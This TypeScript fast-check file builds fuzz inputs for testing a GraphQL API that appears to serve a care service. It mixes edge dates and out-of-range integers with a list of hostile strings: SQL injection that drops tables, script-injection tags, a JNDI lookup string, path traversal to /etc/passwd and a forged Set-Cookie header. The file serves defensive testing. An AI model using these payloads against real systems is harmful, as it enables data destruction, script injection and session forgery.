import fc, { type Arbitrary } from "fast-check";

/**
 * Values a careless or hostile client sends in place of a well-formed one: text that breaks out of SQL, HTML
 * or templates, control and invisible characters, other scripts and emoji, lone surrogates, the empty string
 * and very long text. The leak check takes the caller's own text out of an answer before it looks, so the
 * SQL here quoted back in a validation message is not taken for a leak.
 */
export const HOSTILE_TEXT: readonly string[] = [
  "",
  " ",
  "   padded   ",
  "'",
  "' OR '1'='1",
  "'; DROP TABLE episodes; --",
  "Robert'); DROP TABLE service_users;--",
  "1; SELECT * FROM staff",
  "\" OR \"\"=\"",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "{{7*7}}${7*7}",
  "${jndi:ldap://example.org/a}",
  "../../../../etc/passwd",
  "%s%s%s%n",
  "\r\nSet-Cookie: waymark_session=forged",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "Zoë Ñandú Łukasz Øyvind",
  "李小龍 佐藤 김민준",
  "محمد عبد الله",
  "🧑‍⚕️💉🏳️‍🌈",
  "\u202Egnirts desrever",
  "zero\u200Bwidth\uFEFF",
  "nul\u0000byte",
  "lone \uD800 surrogate",
  "tab\tand\nnewline",
  "x".repeat(10_000),
  "é".repeat(70_000),
];

/** Free text: the hostile list, and generated strings of every kind of character. */
export const hostileText: Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_TEXT), weight: 3 },
  { arbitrary: fc.string({ maxLength: 30 }), weight: 1 },
  { arbitrary: fc.string({ unit: "binary", maxLength: 30 }), weight: 1 },
  { arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }), weight: 1 },
);

/** Edge dates: the first and last the format allows, days that do not exist, and not-quite-ISO spellings. */
export const EDGE_DATES: readonly string[] = [
  "0000-01-01",
  "0001-01-01",
  "1900-01-01",
  "1969-12-31",
  "1970-01-01",
  "2024-02-29",
  "2023-02-29",
  "2024-02-30",
  "2025-04-31",
  "2025-13-01",
  "2025-00-10",
  "2025-06-00",
  "9999-12-31",
  "2025-6-2",
  "02/06/2025",
  "2025-06-02T00:00:00Z",
  "+002025-06-02",
  "2025-06-02 ",
];

/** Dates around the test server's "today" (2025-06-02): the day itself, the days either side, and past and future ones. */
const NEAR_TODAY: readonly string[] = ["2025-06-02", "2025-06-01", "2025-06-03", "2025-01-06", "2025-05-01", "2026-01-01", "1985-03-27", "2005-01-15"];

const isoDay = (date: Date) => date.toISOString().slice(0, 10);

/** A Date scalar's value: mostly real calendar dates, some edge and malformed ones. */
export const fuzzedDate: Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...NEAR_TODAY), weight: 4 },
  { arbitrary: fc.date({ min: new Date("1900-01-01"), max: new Date("2100-12-31"), noInvalidDate: true }).map(isoDay), weight: 3 },
  { arbitrary: fc.constantFrom(...EDGE_DATES), weight: 3 },
  { arbitrary: hostileText, weight: 1 },
);

/** A DateTime scalar's value. */
export const fuzzedDateTime: Arbitrary<string> = fc.oneof(
  fc.date({ min: new Date("1900-01-01"), max: new Date("2100-12-31"), noInvalidDate: true }).map((date) => date.toISOString()),
  fc.constantFrom("0000-01-01T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "2025-06-02T25:61:00Z", "2025-06-02"),
  hostileText,
);

/**
 * An Int scalar's value: mostly the small numbers the rules are about (days in 28, scores to 20, ranks,
 * versions), then the 32-bit bounds, and numbers GraphQL's Int cannot hold (2^31, 2^53, fractions).
 */
export const fuzzedInt: Arbitrary<number> = fc.oneof(
  { arbitrary: fc.integer({ min: -2, max: 30 }), weight: 5 },
  { arbitrary: fc.constantFrom(2_147_483_647, -2_147_483_648, 999_999, 100_000_000), weight: 2 },
  { arbitrary: fc.integer({ min: -2_147_483_648, max: 2_147_483_647 }), weight: 2 },
  { arbitrary: fc.constantFrom(2_147_483_648, -2_147_483_649, 2 ** 53, 1.5, -0.5), weight: 1 },
);

/** Values of the wrong JSON type for whatever field they land in. */
export const wrongTypeValue: Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.double(),
  fc.integer(),
  hostileText,
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);
